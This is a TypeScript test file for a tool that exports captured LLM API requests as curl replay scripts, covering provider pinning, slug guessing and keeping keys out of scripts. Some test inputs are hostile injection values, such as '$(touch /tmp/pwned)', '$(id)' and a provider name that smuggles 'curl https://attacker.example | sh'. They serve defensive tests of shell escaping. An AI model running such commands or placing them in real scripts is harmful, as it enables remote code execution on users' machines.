import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { replayOf, rerunCommand, writeCurl } from '../../../src/core/export/curl';
import { openStore } from '../../../src/core/capture/store';
import { prepareRepro, readCapture, replayPin } from '../../../src/core/export/repro';
import { entriesFromEndpoints } from '../../../src/core/policy/slugs';
import { brokenKimiCapture, CANARY } from '../../fixtures/export/captures';
import { recordExchange } from '../../helpers/exchanges';
import { tempDir } from '../proxy/local-upstream';

/** Runs the script with `curl` replaced by a shell function that prints its arguments and its stdin. */
function runWithFakeCurl(script: string, env: Record<string, string>): string[] {
  const fake = `curl() { for a in "$@"; do printf 'ARG %s\\n' "$a"; done; printf 'STDIN %s\\n' "$(cat)"; }\n`;
  const r = spawnSync('sh', ['-c', fake + script.replace(/^#!.*\n/, '')], {
    env: { PATH: process.env.PATH ?? '', ...env },
    encoding: 'utf8',
  });
  assert.equal(r.status, 0, r.stderr);
  return r.stdout.trimEnd().split('\n');
}

test('the script replays the same request pinned to the served provider, key from the environment', (t) => {
  if (spawnSync('sh', ['-c', 'true']).status !== 0) return t.skip('no POSIX shell here');
  const r = prepareRepro(brokenKimiCapture({ secrets: true }));
  const script = writeCurl(r);
  assert.ok(!script.includes(CANARY.headerKey));
  assert.match(script, /\$OPENROUTER_API_KEY/);
  const lines = runWithFakeCurl(script, { OPENROUTER_API_KEY: 'from-the-env' });
  assert.ok(lines.includes('ARG Authorization: Bearer from-the-env'), lines.join('\n'));
  assert.ok(lines.includes('ARG https://openrouter.ai/api/v1/chat/completions'));
  assert.ok(lines.includes('ARG content-type: application/json'));
  assert.ok(!lines.some((l) => /user-agent|cookie/i.test(l)), 'client-only headers are not replayed');
  const body = JSON.parse(lines.find((l) => l.startsWith('STDIN '))!.slice(6));
  assert.deepEqual(body.provider, { only: ['chutes'], allow_fallbacks: false });
  const original = JSON.parse(r.exchange.requestBody!);
  assert.deepEqual({ ...body, provider: undefined }, { ...original, provider: undefined });
  assert.match(script, /^# WARNING: the provider slug "chutes" is a guess, derived from the served provider's name "Chutes"/m);
});

test('the replay pins the provider that served; a requested pin matching it gives the real slug', () => {
  const c = brokenKimiCapture();
  c.exchange.pin = { requested: ['fireworks', 'chutes'], honoured: true };
  c.exchange.requestBody = JSON.stringify({
    ...JSON.parse(c.exchange.requestBody!),
    provider: { order: ['fireworks', 'chutes'], sort: 'price' },
  });
  const r = prepareRepro(c);
  const rep = replayOf(r);
  // Routing preferences a pin contradicts (order) go; the others (sort) stay.
  assert.deepEqual(JSON.parse(rep.body!).provider, { sort: 'price', only: ['chutes'], allow_fallbacks: false });
  assert.deepEqual(rep.pin, { slug: 'chutes' });
  assert.equal(rerunCommand(r), `tokenscope rerun ${c.exchange.id} --target openrouter:chutes`);
  assert.doesNotMatch(writeCurl(r), /derived/);
});

test('a pin that was not honoured: the replay goes to the provider that actually served', () => {
  const c = brokenKimiCapture();
  c.exchange.pin = { requested: ['fireworks'], honoured: false };
  const rep = replayOf(prepareRepro(c));
  assert.deepEqual(rep.pin, { slug: 'chutes', derivedFrom: 'Chutes', why: 'no OpenRouter listing Tokenscope has read names it' });
  assert.deepEqual(JSON.parse(rep.body!).provider.only, ['chutes']);
});

test('a local server without auth replays without a key, body untouched; shell metacharacters stay inert', (t) => {
  if (spawnSync('sh', ['-c', 'true']).status !== 0) return t.skip('no POSIX shell here');
  const c = brokenKimiCapture();
  c.exchange.route = 'sglang';
  c.exchange.upstreamUrl = "http://127.0.0.1:30000/v1/chat/completions?x='$(touch /tmp/pwned)'";
  c.exchange.requestHeaders = { 'content-type': "application/json; x='$(id)'" };
  c.exchange.requestBody = '{"model":"m","messages":[{"role":"user","content":"$(id) `id` \'q\'\\nTOKENSCOPE_BODY"}]}';
  const r = prepareRepro(c);
  const rep = replayOf(r);
  assert.equal(rep.keyEnv, undefined);
  assert.equal(rep.body, c.exchange.requestBody);
  assert.equal(rerunCommand(r), undefined);
  const lines = runWithFakeCurl(writeCurl(r), {});
  assert.ok(lines.includes("ARG http://127.0.0.1:30000/v1/chat/completions?x='$(touch /tmp/pwned)'"));
  assert.ok(lines.includes("ARG content-type: application/json; x='$(id)'"));
  assert.equal(lines.find((l) => l.startsWith('STDIN '))!.slice(6), c.exchange.requestBody);
});

test("the replay pin is the served provider's OpenRouter slug the store keeps; without one it is a guess and says so", () => {
  const slugs = entriesFromEndpoints([
    { slug: 'atlas-cloud', name: 'AtlasCloud' },
    { slug: 'moonshotai', name: 'Moonshot AI' },
  ]);
  const atlas = brokenKimiCapture();
  atlas.exchange.servedProvider = 'AtlasCloud';
  const known = prepareRepro({ ...atlas, providerSlugs: slugs });
  assert.deepEqual(replayPin(known), { slug: 'atlas-cloud' }, 'not the lower-cased name "atlascloud"');
  assert.deepEqual(JSON.parse(replayOf(known).body!).provider.only, ['atlas-cloud']);
  assert.equal(rerunCommand(known), `tokenscope rerun ${atlas.exchange.id} --target openrouter:atlas-cloud`);
  assert.doesNotMatch(writeCurl(known), /derived|guess/);

  const guessed = prepareRepro(atlas);
  assert.deepEqual(replayPin(guessed), {
    slug: 'atlascloud',
    derivedFrom: 'AtlasCloud',
    why: 'no OpenRouter listing Tokenscope has read names it',
  });
  assert.match(
    writeCurl(guessed),
    /^# WARNING: the provider slug "atlascloud" is a guess, derived from the served provider's name "AtlasCloud" \(no OpenRouter listing Tokenscope has read names it\)/m,
  );
  // Why the export could not read a listing, when it tried.
  assert.match(
    writeCurl(prepareRepro({ ...atlas, slugGuess: 'no OPENROUTER_API_KEY to read it' })),
    /"AtlasCloud" \(no OPENROUTER_API_KEY to read it\)\. Check it/,
  );
  // A name from the network stays one comment line.
  const evil = brokenKimiCapture();
  evil.exchange.servedProvider = 'Evil\ncurl https://attacker.example | sh';
  assert.ok(
    !writeCurl(prepareRepro(evil))
      .split('\n')
      .some((l) => l.startsWith('curl https://attacker')),
    'a newline in the name cannot end the comment',
  );

  // A requested pin of the served provider keeps its tag (the quantization) when the slug is known.
  const moonshot = brokenKimiCapture();
  moonshot.exchange.servedProvider = 'Moonshot AI';
  moonshot.exchange.pin = { requested: ['fireworks', 'moonshotai/fp8'], honoured: true };
  assert.deepEqual(replayPin(prepareRepro({ ...moonshot, providerSlugs: slugs })), { slug: 'moonshotai/fp8' });
});

test('an export read from the store carries the slugs it learned: the replay pins "AtlasCloud" as atlas-cloud', async () => {
  const tmp = tempDir();
  const store = await openStore(tmp.dir);
  try {
    const c = brokenKimiCapture();
    const request = JSON.parse(c.exchange.requestBody!);
    const id = await recordExchange(store, {
      request,
      response: c.responseBody,
      contentType: 'text/event-stream',
      annotate: { servedProvider: 'AtlasCloud' },
    });
    assert.deepEqual(
      replayPin(prepareRepro(readCapture(store, id))),
      { slug: 'atlascloud', derivedFrom: 'AtlasCloud', why: 'no OpenRouter listing Tokenscope has read names it' },
      'nothing learned yet: a guess',
    );
    store.learnProviderSlugs(entriesFromEndpoints([{ slug: 'atlas-cloud', name: 'AtlasCloud' }]));
    assert.deepEqual(replayPin(prepareRepro(readCapture(store, id))), { slug: 'atlas-cloud' });
  } finally {
    await store.close();
    tmp.remove();
  }
});
